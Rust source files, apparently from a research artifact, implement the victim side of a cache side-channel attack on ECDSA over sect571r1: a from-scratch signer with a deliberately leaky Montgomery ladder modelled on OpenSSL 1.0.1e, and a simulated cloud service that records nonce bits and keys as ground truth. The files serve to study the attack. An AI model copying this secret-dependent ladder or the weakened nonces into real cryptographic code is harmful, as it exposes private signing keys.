