//! ECDSA over sect571r1, structured like the vulnerable OpenSSL 1.0.1e code
//! path: the per-signature nonce `k` is consumed by the Montgomery ladder of
//! [`crate::curve::Curve::montgomery_ladder`], whose secret-dependent control
//! flow is what the cache attack observes.

use crate::curve::{Curve, Point};
use crate::scalar::{Scalar, U576};
use crate::sha256::sha256;
use rand::Rng;

/// An ECDSA key pair on sect571r1.
#[derive(Debug, Clone)]
pub struct KeyPair {
    private: Scalar,
    public: Point,
}

impl KeyPair {
    /// Generates a fresh key pair.
    pub fn generate(curve: &Curve, rng: &mut impl Rng) -> Self {
        let private = Scalar::random(rng);
        let (public, _) = curve.montgomery_ladder(&private, &curve.generator());
        Self { private, public }
    }

    /// Builds a key pair from an existing private scalar.
    pub fn from_private(curve: &Curve, private: Scalar) -> Self {
        let (public, _) = curve.montgomery_ladder(&private, &curve.generator());
        Self { private, public }
    }

    /// The private scalar d.
    pub fn private(&self) -> &Scalar {
        &self.private
    }

    /// The public point Q = d·G.
    pub fn public(&self) -> &Point {
        &self.public
    }
}

/// An ECDSA signature (r, s).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Signature {
    /// The r component.
    pub r: Scalar,
    /// The s component.
    pub s: Scalar,
}

/// Everything produced by one signing operation, including the side-channel
/// ground truth the experiments validate against.
#[derive(Debug, Clone)]
pub struct SigningTranscript {
    /// The signature itself.
    pub signature: Signature,
    /// The hashed message z (public: the signer's client knows what it
    /// submitted; Step 4's algebraic recovery needs it alongside r and s).
    pub hashed_message: Scalar,
    /// The ephemeral nonce k (the attack's target secret).
    pub nonce: Scalar,
    /// The nonce bits processed by the ladder, most significant first,
    /// *excluding* the implicit leading 1 (one entry per ladder iteration).
    pub ladder_bits: Vec<bool>,
}

/// Converts a SHA-256 digest into a scalar (leftmost bits, reduced mod n).
pub fn hash_to_scalar(message: &[u8]) -> Scalar {
    let digest = sha256(message);
    let mut limbs = [0u64; crate::scalar::LIMBS];
    // Interpret the 32-byte digest as a big-endian integer (fits easily).
    for (i, chunk) in digest.chunks_exact(8).enumerate() {
        let mut b = [0u8; 8];
        b.copy_from_slice(chunk);
        limbs[3 - i] = u64::from_be_bytes(b);
    }
    Scalar::new(U576::from_limbs(limbs))
}

/// Converts the affine x coordinate of a curve point into a scalar mod n.
fn field_element_to_scalar(x: &crate::gf2m::Gf571) -> Scalar {
    let mut limbs = [0u64; crate::scalar::LIMBS];
    limbs.copy_from_slice(x.limbs());
    Scalar::new(U576::from_limbs(limbs))
}

/// The ECDSA signer/verifier.
#[derive(Debug, Clone, Default)]
pub struct Ecdsa {
    curve: Curve,
}

impl Ecdsa {
    /// Creates an ECDSA instance over sect571r1.
    pub fn new() -> Self {
        Self { curve: Curve::sect571r1() }
    }

    /// The underlying curve.
    pub fn curve(&self) -> &Curve {
        &self.curve
    }

    /// Signs `message` with `key`, drawing the nonce from `rng`.
    ///
    /// Returns the full transcript, including the nonce and the ladder's
    /// secret-dependent branch trace (the ground truth used by the attack
    /// evaluation).
    pub fn sign(&self, key: &KeyPair, message: &[u8], rng: &mut impl Rng) -> SigningTranscript {
        let z = hash_to_scalar(message);
        loop {
            let nonce = Scalar::random(rng);
            if let Some(t) = self.sign_with_nonce(key, &z, nonce) {
                return t;
            }
        }
    }

    /// Signs a pre-hashed message with an explicit nonce; returns `None` if
    /// the nonce leads to a degenerate signature (r = 0 or s = 0).
    pub fn sign_with_nonce(&self, key: &KeyPair, z: &Scalar, nonce: Scalar) -> Option<SigningTranscript> {
        if nonce.is_zero() {
            return None;
        }
        let (point, steps) = self.curve.montgomery_ladder(&nonce, &self.curve.generator());
        let x = point.x()?;
        let r = field_element_to_scalar(&x);
        if r.is_zero() {
            return None;
        }
        let s = nonce.inverse().mul(&z.add(&r.mul(key.private())));
        if s.is_zero() {
            return None;
        }
        Some(SigningTranscript {
            signature: Signature { r, s },
            hashed_message: *z,
            nonce,
            ladder_bits: steps.iter().map(|st| st.bit).collect(),
        })
    }

    /// Verifies `signature` over `message` with public key `public`.
    pub fn verify(&self, public: &Point, message: &[u8], signature: &Signature) -> bool {
        if signature.r.is_zero() || signature.s.is_zero() {
            return false;
        }
        let z = hash_to_scalar(message);
        let w = signature.s.inverse();
        let u1 = z.mul(&w);
        let u2 = signature.r.mul(&w);
        let (p1, _) = self.curve.montgomery_ladder(&u1, &self.curve.generator());
        let (p2, _) = self.curve.montgomery_ladder(&u2, public);
        let sum = self.curve.add(&p1, &p2);
        match sum.x() {
            None => false,
            Some(x) => field_element_to_scalar(&x) == signature.r,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::SmallRng;
    use rand::SeedableRng;

    #[test]
    fn sign_verify_round_trip() {
        let ecdsa = Ecdsa::new();
        let mut rng = SmallRng::seed_from_u64(1);
        let key = KeyPair::generate(ecdsa.curve(), &mut rng);
        let transcript = ecdsa.sign(&key, b"cloud run attack demo", &mut rng);
        assert!(ecdsa.verify(key.public(), b"cloud run attack demo", &transcript.signature));
        assert!(!ecdsa.verify(key.public(), b"a different message", &transcript.signature));
    }

    #[test]
    fn signatures_use_fresh_nonces() {
        let ecdsa = Ecdsa::new();
        let mut rng = SmallRng::seed_from_u64(2);
        let key = KeyPair::generate(ecdsa.curve(), &mut rng);
        let t1 = ecdsa.sign(&key, b"message", &mut rng);
        let t2 = ecdsa.sign(&key, b"message", &mut rng);
        assert_ne!(t1.nonce, t2.nonce, "nonce must change per signature");
        assert_ne!(t1.signature, t2.signature);
    }

    #[test]
    fn ladder_bits_match_nonce() {
        let ecdsa = Ecdsa::new();
        let mut rng = SmallRng::seed_from_u64(3);
        let key = KeyPair::generate(ecdsa.curve(), &mut rng);
        let t = ecdsa.sign(&key, b"nonce bit check", &mut rng);
        let expected: Vec<bool> = t.nonce.bits_msb_first()[1..].to_vec();
        assert_eq!(t.ladder_bits, expected);
        // A 571-bit order gives ~569-570 ladder iterations for a random nonce.
        assert!(t.ladder_bits.len() >= 560);
    }

    #[test]
    fn tampered_signature_fails() {
        let ecdsa = Ecdsa::new();
        let mut rng = SmallRng::seed_from_u64(4);
        let key = KeyPair::generate(ecdsa.curve(), &mut rng);
        let t = ecdsa.sign(&key, b"tamper test", &mut rng);
        let bad = Signature { r: t.signature.r, s: t.signature.s.add(&Scalar::one()) };
        assert!(!ecdsa.verify(key.public(), b"tamper test", &bad));
    }

    #[test]
    fn wrong_key_fails() {
        let ecdsa = Ecdsa::new();
        let mut rng = SmallRng::seed_from_u64(5);
        let key = KeyPair::generate(ecdsa.curve(), &mut rng);
        let other = KeyPair::generate(ecdsa.curve(), &mut rng);
        let t = ecdsa.sign(&key, b"key confusion", &mut rng);
        assert!(!ecdsa.verify(other.public(), b"key confusion", &t.signature));
    }

    #[test]
    fn hash_to_scalar_is_deterministic_and_message_dependent() {
        assert_eq!(hash_to_scalar(b"x"), hash_to_scalar(b"x"));
        assert_ne!(hash_to_scalar(b"x"), hash_to_scalar(b"y"));
    }

    #[test]
    fn degenerate_nonce_rejected() {
        let ecdsa = Ecdsa::new();
        let mut rng = SmallRng::seed_from_u64(6);
        let key = KeyPair::generate(ecdsa.curve(), &mut rng);
        let z = hash_to_scalar(b"m");
        assert!(ecdsa.sign_with_nonce(&key, &z, Scalar::zero()).is_none());
    }
}
