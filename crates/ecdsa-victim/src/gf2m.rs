//! Arithmetic in the binary field GF(2^571) with the sect571r1 reduction
//! polynomial `f(x) = x^571 + x^10 + x^5 + x^2 + 1`.
//!
//! Elements are polynomials over GF(2) of degree < 571, stored as 9 little-
//! endian 64-bit limbs. Addition is XOR; multiplication uses a 4-bit windowed
//! shift-and-add followed by reduction; inversion uses the binary extended
//! Euclidean algorithm for polynomials.

/// Number of 64-bit limbs in a field element (ceil(571 / 64) = 9).
pub const LIMBS: usize = 9;
/// Field degree m = 571.
pub const DEGREE: usize = 571;

/// An element of GF(2^571).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct Gf571 {
    limbs: [u64; LIMBS],
}

impl Default for Gf571 {
    fn default() -> Self {
        Self::ZERO
    }
}

impl Gf571 {
    /// The additive identity.
    pub const ZERO: Gf571 = Gf571 { limbs: [0; LIMBS] };
    /// The multiplicative identity.
    pub const ONE: Gf571 = {
        let mut l = [0u64; LIMBS];
        l[0] = 1;
        Gf571 { limbs: l }
    };

    /// Creates an element from little-endian limbs.
    ///
    /// # Panics
    ///
    /// Panics if the value has degree >= 571 (bits above position 570 set).
    pub fn from_limbs(limbs: [u64; LIMBS]) -> Self {
        let e = Self { limbs };
        assert!(e.degree() < DEGREE as i32 || e == Self::ZERO, "element exceeds field degree");
        e
    }

    /// The little-endian limbs of this element.
    pub fn limbs(&self) -> &[u64; LIMBS] {
        &self.limbs
    }

    /// Parses a big-endian hexadecimal string (as printed in SEC 2).
    ///
    /// # Panics
    ///
    /// Panics on non-hex characters or values of degree >= 571.
    pub fn from_hex(hex: &str) -> Self {
        let clean: String = hex.chars().filter(|c| !c.is_whitespace()).collect();
        let clean = clean.trim_start_matches("0x");
        let mut limbs = [0u64; LIMBS];
        for (nibble_idx, c) in clean.chars().rev().enumerate() {
            let v = c.to_digit(16).expect("invalid hex digit") as u64;
            let bit = nibble_idx * 4;
            let limb = bit / 64;
            let shift = bit % 64;
            assert!(limb < LIMBS, "hex value too large for GF(2^571)");
            limbs[limb] |= v << shift;
        }
        Self::from_limbs(limbs)
    }

    /// Formats the element as a big-endian hexadecimal string.
    pub fn to_hex(&self) -> String {
        let mut s = String::new();
        for limb in self.limbs.iter().rev() {
            s.push_str(&format!("{limb:016x}"));
        }
        let trimmed = s.trim_start_matches('0');
        if trimmed.is_empty() {
            "0".to_string()
        } else {
            trimmed.to_string()
        }
    }

    /// True if this is the zero element.
    pub fn is_zero(&self) -> bool {
        self.limbs.iter().all(|&l| l == 0)
    }

    /// Degree of the polynomial (-1 for zero).
    pub fn degree(&self) -> i32 {
        for (i, &l) in self.limbs.iter().enumerate().rev() {
            if l != 0 {
                return (i * 64 + 63 - l.leading_zeros() as usize) as i32;
            }
        }
        -1
    }

    /// Returns bit `i` of the element.
    pub fn bit(&self, i: usize) -> bool {
        if i >= LIMBS * 64 {
            return false;
        }
        (self.limbs[i / 64] >> (i % 64)) & 1 == 1
    }

    /// Field addition (XOR).
    pub fn add(&self, other: &Gf571) -> Gf571 {
        let mut limbs = [0u64; LIMBS];
        for (l, (&a, &b)) in limbs.iter_mut().zip(self.limbs.iter().zip(&other.limbs)) {
            *l = a ^ b;
        }
        Gf571 { limbs }
    }

    /// Field multiplication (4-bit windowed comb).
    pub fn mul(&self, other: &Gf571) -> Gf571 {
        // table[w] = w(x) · other (LIMBS+1 limbs), built incrementally:
        // even entries are a 1-bit shift of their half, odd entries add the
        // multiplicand — one shift or one XOR per entry instead of the
        // bit-by-bit accumulation this replaced.
        let mut table = [[0u64; LIMBS + 1]; 16];
        table[1][..LIMBS].copy_from_slice(&other.limbs);
        for w in 2..16 {
            if w % 2 == 0 {
                let src = table[w / 2];
                let mut carry = 0u64;
                for (dst, &s) in table[w].iter_mut().zip(&src) {
                    *dst = (s << 1) | carry;
                    carry = s >> 63;
                }
            } else {
                let src = table[w - 1];
                for (i, dst) in table[w].iter_mut().enumerate() {
                    *dst = src[i] ^ if i < LIMBS { other.limbs[i] } else { 0 };
                }
            }
        }

        // Comb over nibble columns: one product shift per column (16 total)
        // instead of one per nibble (144), with every limb's matching nibble
        // accumulated at its limb offset.
        let mut product = [0u64; 2 * LIMBS];
        for j in (0..16).rev() {
            if j != 15 {
                // product <<= 4
                let mut carry = 0u64;
                for limb in product.iter_mut() {
                    let new_carry = *limb >> 60;
                    *limb = (*limb << 4) | carry;
                    carry = new_carry;
                }
            }
            for (i, &a) in self.limbs.iter().enumerate() {
                let nib = ((a >> (j * 4)) & 0xf) as usize;
                if nib != 0 {
                    for (t, &v) in table[nib].iter().enumerate() {
                        product[i + t] ^= v;
                    }
                }
            }
        }
        reduce(&mut product);
        let mut limbs = [0u64; LIMBS];
        limbs.copy_from_slice(&product[..LIMBS]);
        Gf571 { limbs }
    }

    /// Field squaring (linear in GF(2), considerably faster than `mul`).
    pub fn square(&self) -> Gf571 {
        let mut product = [0u64; 2 * LIMBS];
        for (i, &limb) in self.limbs.iter().enumerate() {
            let (lo, hi) = spread_bits(limb);
            product[2 * i] = lo;
            product[2 * i + 1] = hi;
        }
        reduce(&mut product);
        let mut limbs = [0u64; LIMBS];
        limbs.copy_from_slice(&product[..LIMBS]);
        Gf571 { limbs }
    }

    /// Multiplicative inverse via the binary extended Euclidean algorithm.
    ///
    /// # Panics
    ///
    /// Panics when inverting zero.
    pub fn inverse(&self) -> Gf571 {
        assert!(!self.is_zero(), "zero has no multiplicative inverse");
        // Polynomials can temporarily reach degree 571, so use LIMBS+1 words.
        let mut u = Poly::from_element(self);
        let mut v = Poly::modulus();
        let mut g1 = Poly::one();
        let mut g2 = Poly::zero();
        loop {
            if u.is_one() {
                return g1.to_element();
            }
            let j = u.degree() - v.degree();
            if j < 0 {
                std::mem::swap(&mut u, &mut v);
                std::mem::swap(&mut g1, &mut g2);
                continue;
            }
            u.xor_shifted(&v, j as usize);
            g1.xor_shifted(&g2, j as usize);
        }
    }

    /// Exponentiation by squaring (used in tests to cross-check `inverse`).
    pub fn pow(&self, exponent_bits: &[bool]) -> Gf571 {
        let mut acc = Gf571::ONE;
        for &bit in exponent_bits {
            acc = acc.square();
            if bit {
                acc = acc.mul(self);
            }
        }
        acc
    }
}

/// Spreads the bits of `x` so that bit i lands at position 2i (squaring).
fn spread_bits(x: u64) -> (u64, u64) {
    fn spread32(mut v: u64) -> u64 {
        v &= 0xffff_ffff;
        v = (v | (v << 16)) & 0x0000_ffff_0000_ffff;
        v = (v | (v << 8)) & 0x00ff_00ff_00ff_00ff;
        v = (v | (v << 4)) & 0x0f0f_0f0f_0f0f_0f0f;
        v = (v | (v << 2)) & 0x3333_3333_3333_3333;
        v = (v | (v << 1)) & 0x5555_5555_5555_5555;
        v
    }
    (spread32(x), spread32(x >> 32))
}

/// Reduces an up-to-1142-bit polynomial modulo f(x) = x^571 + x^10 + x^5 + x^2 + 1.
///
/// Word-level folding: bit `k ≥ 571` reduces to `k − 571 + {0, 2, 5, 10}`,
/// so a whole high limb folds down with four shifted XORs. High limbs are
/// processed top-down — their folds only ever land on strictly lower limbs
/// (`64·i − 571 + 10 < 64·(i − 8)`), so each limb is cleared exactly once.
/// This replaced a bit-serial loop over ~580 individual bits, which
/// dominated the cost of every field multiplication and squaring.
fn reduce(product: &mut [u64; 2 * LIMBS]) {
    for i in (LIMBS..2 * LIMBS).rev() {
        let w = product[i];
        if w == 0 {
            continue;
        }
        product[i] = 0;
        let base = i * 64 - DEGREE; // ≥ 5 for i ≥ LIMBS, so word + 1 ≤ i
        for offset in [0usize, 2, 5, 10] {
            let b = base + offset;
            let (word, shift) = (b / 64, b % 64);
            product[word] ^= w << shift;
            if shift > 0 {
                product[word + 1] ^= w >> (64 - shift);
            }
        }
    }
    // Fold the residual bits 571..=575 of the top in-field limb.
    let top = product[LIMBS - 1] >> (DEGREE % 64);
    if top != 0 {
        product[LIMBS - 1] &= (1u64 << (DEGREE % 64)) - 1;
        product[0] ^= top ^ (top << 2) ^ (top << 5) ^ (top << 10);
    }
}

/// A scratch polynomial of up to 10 limbs used by the inversion algorithm.
#[derive(Debug, Clone, Copy)]
struct Poly {
    limbs: [u64; LIMBS + 1],
}

impl Poly {
    fn zero() -> Self {
        Self { limbs: [0; LIMBS + 1] }
    }

    fn one() -> Self {
        let mut p = Self::zero();
        p.limbs[0] = 1;
        p
    }

    fn from_element(e: &Gf571) -> Self {
        let mut p = Self::zero();
        p.limbs[..LIMBS].copy_from_slice(&e.limbs);
        p
    }

    fn modulus() -> Self {
        let mut p = Self::zero();
        p.limbs[0] = (1 << 10) | (1 << 5) | (1 << 2) | 1;
        p.limbs[DEGREE / 64] |= 1 << (DEGREE % 64);
        p
    }

    fn degree(&self) -> i32 {
        for (i, &l) in self.limbs.iter().enumerate().rev() {
            if l != 0 {
                return (i * 64 + 63 - l.leading_zeros() as usize) as i32;
            }
        }
        -1
    }

    fn is_one(&self) -> bool {
        self.limbs[0] == 1 && self.limbs[1..].iter().all(|&l| l == 0)
    }

    /// `self ^= other << shift`
    fn xor_shifted(&mut self, other: &Poly, shift: usize) {
        let limb_shift = shift / 64;
        let bit_shift = shift % 64;
        for i in (0..=LIMBS).rev() {
            if i < limb_shift {
                break;
            }
            let src = i - limb_shift;
            let mut v = other.limbs[src] << bit_shift;
            if bit_shift > 0 && src > 0 {
                v |= other.limbs[src - 1] >> (64 - bit_shift);
            }
            self.limbs[i] ^= v;
        }
    }

    fn to_element(self) -> Gf571 {
        let mut limbs = [0u64; LIMBS];
        limbs.copy_from_slice(&self.limbs[..LIMBS]);
        debug_assert_eq!(self.limbs[LIMBS], 0, "inverse result must fit the field");
        Gf571 { limbs }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample(seed: u64) -> Gf571 {
        // Deterministic pseudo-random field element.
        let mut limbs = [0u64; LIMBS];
        let mut x = seed.wrapping_add(0x9e3779b97f4a7c15);
        for l in limbs.iter_mut() {
            x ^= x >> 30;
            x = x.wrapping_mul(0xbf58476d1ce4e5b9);
            x ^= x >> 27;
            x = x.wrapping_mul(0x94d049bb133111eb);
            x ^= x >> 31;
            *l = x;
        }
        limbs[LIMBS - 1] &= (1 << (DEGREE % 64)) - 1;
        Gf571::from_limbs(limbs)
    }

    #[test]
    fn addition_is_xor_and_self_inverse() {
        let a = sample(1);
        let b = sample(2);
        assert_eq!(a.add(&b), b.add(&a));
        assert_eq!(a.add(&a), Gf571::ZERO);
        assert_eq!(a.add(&Gf571::ZERO), a);
    }

    #[test]
    fn one_is_multiplicative_identity() {
        let a = sample(3);
        assert_eq!(a.mul(&Gf571::ONE), a);
        assert_eq!(Gf571::ONE.mul(&a), a);
        assert_eq!(a.mul(&Gf571::ZERO), Gf571::ZERO);
    }

    #[test]
    fn multiplication_is_commutative_and_associative() {
        let a = sample(4);
        let b = sample(5);
        let c = sample(6);
        assert_eq!(a.mul(&b), b.mul(&a));
        assert_eq!(a.mul(&b).mul(&c), a.mul(&b.mul(&c)));
    }

    #[test]
    fn distributivity() {
        let a = sample(7);
        let b = sample(8);
        let c = sample(9);
        assert_eq!(a.mul(&b.add(&c)), a.mul(&b).add(&a.mul(&c)));
    }

    #[test]
    fn square_matches_self_multiplication() {
        for seed in 10..20 {
            let a = sample(seed);
            assert_eq!(a.square(), a.mul(&a));
        }
    }

    #[test]
    fn small_polynomial_products() {
        // (x + 1) * (x + 1) = x^2 + 1
        let x_plus_1 = Gf571::from_limbs({
            let mut l = [0u64; LIMBS];
            l[0] = 0b11;
            l
        });
        let expected = Gf571::from_limbs({
            let mut l = [0u64; LIMBS];
            l[0] = 0b101;
            l
        });
        assert_eq!(x_plus_1.mul(&x_plus_1), expected);
    }

    #[test]
    fn reduction_wraps_high_bit_correctly() {
        // x^570 * x = x^571 ≡ x^10 + x^5 + x^2 + 1 (mod f).
        let mut l = [0u64; LIMBS];
        l[570 / 64] = 1 << (570 % 64);
        let x570 = Gf571::from_limbs(l);
        let mut xl = [0u64; LIMBS];
        xl[0] = 2;
        let x = Gf571::from_limbs(xl);
        let mut el = [0u64; LIMBS];
        el[0] = (1 << 10) | (1 << 5) | (1 << 2) | 1;
        assert_eq!(x570.mul(&x), Gf571::from_limbs(el));
    }

    #[test]
    fn inverse_round_trips() {
        for seed in 20..26 {
            let a = sample(seed);
            if a.is_zero() {
                continue;
            }
            let inv = a.inverse();
            assert_eq!(a.mul(&inv), Gf571::ONE, "a * a^-1 must be 1");
        }
    }

    #[test]
    fn inverse_of_one_is_one() {
        assert_eq!(Gf571::ONE.inverse(), Gf571::ONE);
    }

    #[test]
    #[should_panic]
    fn inverse_of_zero_panics() {
        let _ = Gf571::ZERO.inverse();
    }

    #[test]
    fn hex_round_trip() {
        let a = sample(30);
        let hex = a.to_hex();
        assert_eq!(Gf571::from_hex(&hex), a);
        assert_eq!(Gf571::from_hex("0"), Gf571::ZERO);
        assert_eq!(Gf571::from_hex("1"), Gf571::ONE);
    }

    #[test]
    fn degree_and_bits() {
        assert_eq!(Gf571::ZERO.degree(), -1);
        assert_eq!(Gf571::ONE.degree(), 0);
        let a = Gf571::from_hex("10");
        assert_eq!(a.degree(), 4);
        assert!(a.bit(4));
        assert!(!a.bit(3));
    }

    #[test]
    fn pow_matches_repeated_multiplication() {
        let a = sample(31);
        // a^5 = a * a * a * a * a; exponent 5 = 101b (MSB first).
        let a5 = a.pow(&[true, false, true]);
        let expected = a.mul(&a).mul(&a).mul(&a).mul(&a);
        assert_eq!(a5, expected);
    }
}
