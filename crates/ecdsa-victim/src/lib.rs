//! # llc-ecdsa-victim
//!
//! The victim side of the paper's end-to-end attack (Section 7): a complete,
//! from-scratch ECDSA implementation over **sect571r1** whose scalar
//! multiplication uses the Montgomery-ladder code path of OpenSSL 1.0.1e —
//! the vulnerable, secret-dependent control flow the cache attack observes —
//! plus a [`VictimProgram`](llc_machine::VictimProgram) implementation that
//! turns each signing request into the cache-line access schedule the
//! attacker's Prime+Probe monitor sees.
//!
//! Components:
//!
//! * [`Gf571`] — arithmetic in GF(2^571) (sect571r1's binary field);
//! * [`Curve`] / [`Point`] — the curve, affine group law, and the
//!   López–Dahab Montgomery ladder with its per-iteration branch trace;
//! * [`Scalar`] — integer arithmetic modulo the group order;
//! * [`sha256`] — message hashing;
//! * [`Ecdsa`] / [`KeyPair`] / [`Signature`] — signing and verification;
//! * [`EcdsaVictim`] — the victim service and its ground-truth log.
//!
//! ## Quick example
//!
//! ```
//! use llc_ecdsa_victim::{Ecdsa, KeyPair};
//! use rand::SeedableRng;
//!
//! let ecdsa = Ecdsa::new();
//! let mut rng = rand::rngs::SmallRng::seed_from_u64(1);
//! let key = KeyPair::generate(ecdsa.curve(), &mut rng);
//! let transcript = ecdsa.sign(&key, b"hello cloud", &mut rng);
//! assert!(ecdsa.verify(key.public(), b"hello cloud", &transcript.signature));
//! // The ladder trace is exactly the nonce's bits — the secret that leaks.
//! assert_eq!(transcript.ladder_bits, transcript.nonce.bits_msb_first()[1..].to_vec());
//! ```

#![warn(missing_docs)]
#![warn(missing_debug_implementations)]

mod curve;
mod ecdsa;
mod gf2m;
mod scalar;
mod sha256;
mod victim;

pub use curve::{Curve, LadderStep, Point};
pub use ecdsa::{hash_to_scalar, Ecdsa, KeyPair, Signature, SigningTranscript};
pub use gf2m::{Gf571, DEGREE as FIELD_DEGREE, LIMBS as FIELD_LIMBS};
pub use scalar::{group_order, Scalar, U576};
pub use sha256::{digest_hex, sha256};
pub use victim::{
    EcdsaVictim, EcdsaVictimConfig, RunGroundTruth, VictimHandle, VictimLayout, VictimLog,
};
