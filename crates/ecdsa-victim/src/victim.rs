//! The victim service: a containerised web service that performs ECDSA
//! signings with the vulnerable Montgomery ladder, modelled as a
//! [`VictimProgram`] whose per-request cache-line access schedule reproduces
//! the secret-dependent code-fetch pattern of Figure 8/9 in the paper.
//!
//! Per ladder iteration (~9,700 cycles on the 2 GHz Cloud Run hosts):
//!
//! * the *monitored* branch line is fetched at the iteration start (the
//!   "clock" access); and
//! * when the nonce bit of that iteration is 0, the monitored line is fetched
//!   again at the iteration midpoint (the instrumented layout of Section 7.1,
//!   which is also what Figure 9 shows: iterations with bit 0 have two
//!   accesses).
//!
//! The ladder is only ~25% of the request's execution time; the rest is
//! request parsing/serialisation, modelled as accesses to unrelated lines.

use crate::ecdsa::{Ecdsa, KeyPair, SigningTranscript};
use crate::scalar::Scalar;
use llc_cache_model::{AddressSpace, VirtAddr, LINE_SIZE, PAGE_SIZE};
use llc_machine::{ScheduledAccess, VictimProgram, VictimSchedule};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::sync::{Arc, Mutex};

/// Virtual-address layout of the victim's relevant cache lines, fixed at
/// container start-up (the attacker knows the library layout, Section 7.1).
#[derive(Debug, Clone)]
pub struct VictimLayout {
    /// The monitored line: holds the ladder's branch and the beginning of the
    /// `else` block (line ② of Figure 8 in the instrumented layout).
    pub branch_line: VirtAddr,
    /// Code line of `MAdd` executed when the bit is 1.
    pub madd1_line: VirtAddr,
    /// Code line of `MDouble` executed when the bit is 1.
    pub mdouble1_line: VirtAddr,
    /// Code line of `MAdd` executed when the bit is 0.
    pub madd0_line: VirtAddr,
    /// Code line of `MDouble` executed when the bit is 0.
    pub mdouble0_line: VirtAddr,
    /// Field-element working buffers touched throughout the ladder.
    pub data_lines: Vec<VirtAddr>,
    /// Lines touched by non-cryptographic request handling.
    pub frontend_lines: Vec<VirtAddr>,
}

impl VictimLayout {
    /// The page offset of the monitored line (what a PageOffset attacker
    /// derives from the public binary).
    pub fn target_page_offset(&self) -> u64 {
        self.branch_line.page_offset()
    }
}

/// Ground truth recorded for one victim request (one signing).
#[derive(Debug, Clone)]
pub struct RunGroundTruth {
    /// Ladder bits processed, most significant first (excluding the leading 1).
    pub nonce_bits: Vec<bool>,
    /// Offset (cycles from request start) of each ladder iteration start.
    pub iteration_starts: Vec<u64>,
    /// Offset of the start of the vulnerable ladder within the request.
    pub ladder_start: u64,
    /// Total request duration in cycles.
    pub duration: u64,
    /// The full signing transcript when real crypto is enabled.
    pub transcript: Option<SigningTranscript>,
}

/// Shared view of the victim's layout and per-run ground truth, used by the
/// experiments for validation (the attack itself only uses the layout and
/// the *public* half of the key, which are public knowledge).
#[derive(Debug, Default)]
pub struct VictimLog {
    /// Populated during `setup`.
    pub layout: Option<VictimLayout>,
    /// The service's ECDSA key pair, populated during `setup` when
    /// `full_crypto` is enabled. The attack side may read `.public()` only
    /// (a signing service's public key is public); the private half is
    /// ground truth for validating Step 4's recovery.
    pub key_pair: Option<KeyPair>,
    /// One entry per served request, in order.
    pub runs: Vec<RunGroundTruth>,
}

/// Handle to the shared victim log.
pub type VictimHandle = Arc<Mutex<VictimLog>>;

/// Configuration of the ECDSA victim service.
#[derive(Debug, Clone)]
pub struct EcdsaVictimConfig {
    /// Duration of one ladder iteration in cycles (paper: ~9,700 at 2 GHz).
    pub iteration_cycles: u64,
    /// Relative jitter applied to iteration durations (0.0–0.2).
    pub iteration_jitter: f64,
    /// Number of nonce bits the ladder processes per signing.
    pub nonce_bits: usize,
    /// Cycles of non-vulnerable request handling before the ladder.
    pub pre_cycles: u64,
    /// Cycles of non-vulnerable request handling after the ladder.
    pub post_cycles: u64,
    /// When true, each request performs a real ECDSA signing (slower); when
    /// false, only the nonce is drawn and the ladder schedule generated,
    /// which is sufficient for the cache-channel experiments. Scaled victims
    /// (`nonce_bits` below the group order's 570 bits) sign with nonces of
    /// exactly `nonce_bits` significant bits — still verifiable ECDSA, just
    /// deliberately weakened so the ladder length matches the scaled
    /// schedule.
    pub full_crypto: bool,
    /// RNG seed for nonces and jitter.
    pub seed: u64,
    /// RNG seed for the service's long-term key pair. Kept separate from
    /// `seed` so a key-recovery campaign can draw fresh nonce streams per
    /// captured signature while attacking one fixed key.
    pub key_seed: u64,
}

impl Default for EcdsaVictimConfig {
    fn default() -> Self {
        Self {
            iteration_cycles: 9_700,
            iteration_jitter: 0.02,
            nonce_bits: 571,
            pre_cycles: 8_000_000,
            post_cycles: 3_000_000,
            full_crypto: false,
            seed: 0xECD5A,
            key_seed: 77,
        }
    }
}

impl EcdsaVictimConfig {
    /// A scaled-down victim (fewer nonce bits, shorter pre/post phases) for
    /// fast unit and integration tests.
    pub fn fast_test() -> Self {
        Self {
            nonce_bits: 64,
            pre_cycles: 200_000,
            post_cycles: 100_000,
            ..Self::default()
        }
    }

    /// Expected period, in cycles, of the victim's accesses to the monitored
    /// line during runs of zero bits (the PSD peak of Section 6.2).
    pub fn expected_access_period(&self) -> u64 {
        self.iteration_cycles / 2
    }
}

/// The ECDSA victim service.
#[derive(Debug)]
pub struct EcdsaVictim {
    config: EcdsaVictimConfig,
    ecdsa: Ecdsa,
    key: Option<KeyPair>,
    rng: StdRng,
    layout: Option<VictimLayout>,
    log: VictimHandle,
}

impl EcdsaVictim {
    /// Creates the victim service and the shared log handle.
    pub fn new(config: EcdsaVictimConfig) -> (Self, VictimHandle) {
        let log: VictimHandle = Arc::new(Mutex::new(VictimLog::default()));
        let victim = Self {
            rng: StdRng::seed_from_u64(config.seed),
            config,
            ecdsa: Ecdsa::new(),
            key: None,
            layout: None,
            log: Arc::clone(&log),
        };
        (victim, log)
    }

    /// The victim's configuration.
    pub fn config(&self) -> &EcdsaVictimConfig {
        &self.config
    }

    fn generate_nonce_bits(&mut self) -> (Vec<bool>, Option<SigningTranscript>) {
        if self.config.full_crypto {
            let key_seed = self.config.key_seed;
            let key = self
                .key
                .get_or_insert_with(|| {
                    KeyPair::generate(
                        Ecdsa::new().curve(),
                        &mut rand::rngs::StdRng::seed_from_u64(key_seed),
                    )
                })
                .clone();
            let message: [u8; 16] = self.rng.gen();
            let z = crate::ecdsa::hash_to_scalar(&message);
            // Draw nonces at the configured (possibly scaled-down) width so
            // the real signing's ladder matches the scheduled iterations.
            let transcript = loop {
                let nonce = Scalar::random_with_bit_length(&mut self.rng, self.config.nonce_bits);
                if let Some(t) = self.ecdsa.sign_with_nonce(&key, &z, nonce) {
                    break t;
                }
            };
            (transcript.ladder_bits.clone(), Some(transcript))
        } else {
            // Draw a nonce of the configured width; the ladder processes the
            // bits below the most significant set bit.
            let scalar = Scalar::random(&mut self.rng);
            let mut bits = scalar.bits_msb_first();
            bits.truncate(self.config.nonce_bits);
            if bits.len() > 1 {
                bits.remove(0);
            }
            (bits, None)
        }
    }
}

impl VictimProgram for EcdsaVictim {
    fn setup(&mut self, aspace: &mut AddressSpace) {
